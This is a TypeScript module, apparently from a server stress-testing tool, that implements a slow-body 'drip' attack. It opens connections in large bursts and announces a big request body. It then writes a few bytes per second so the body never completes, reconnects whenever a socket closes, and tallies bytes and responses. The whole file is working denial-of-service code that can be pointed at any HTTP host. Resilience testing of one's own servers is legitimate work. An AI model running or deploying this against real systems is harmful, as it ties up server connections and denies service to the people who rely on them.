import { connect, type Socket } from 'node:net';
import type { DripAttack } from '../attack.ts';
import { createAnswerReader } from './answer-reader.ts';
import type { Attacker } from './attacker.ts';
import { headOf } from './send-bodies.ts';

const DRIP_MS = 1_000;
const RECONNECT_MS = 200;
/** Connections opened at a time. */
const BURST = 100;
const BURST_MS = 20;
const START = '{"messages":[{"role":"user","content":"';

/** Prepares connections whose bodies never end. */
export const drip = (attack: DripAttack): Attacker => {
  const start = Buffer.from(START + 'x'.repeat(Math.max(0, attack.firstBytes - START.length)));
  const drop = Buffer.alloc(attack.bytesPerSecond, 'x');
  return (target) => {
    const sockets = new Set<Socket>();
    let isRunning = true;
    const open = (place: number): void => {
      if (!isRunning) return;
      const socket = connect(Number(target.url.port), target.url.hostname);
      const framing = `content-length: ${attack.announcedBytes}`;
      let timer: NodeJS.Timeout | undefined;
      socket.on('connect', () => {
        sockets.add(socket);
        socket.write(headOf(target, { place, path: attack.path, framing }));
        socket.write(start);
        timer = setInterval(() => {
          target.tally.countBytes(drop.length);
          socket.write(drop);
        }, DRIP_MS);
      });
      socket.on('data', createAnswerReader(target.tally.count).push).on('error', () => {});
      socket.on('close', () => {
        clearInterval(timer);
        sockets.delete(socket);
        setTimeout(() => open(place), RECONNECT_MS);
      });
    };
    for (let place = 0; place < attack.connections; place += 1) {
      setTimeout(() => open(place), Math.floor(place / BURST) * BURST_MS);
    }
    return () => {
      isRunning = false;
      for (const socket of sockets) socket.destroy();
    };
  };
};
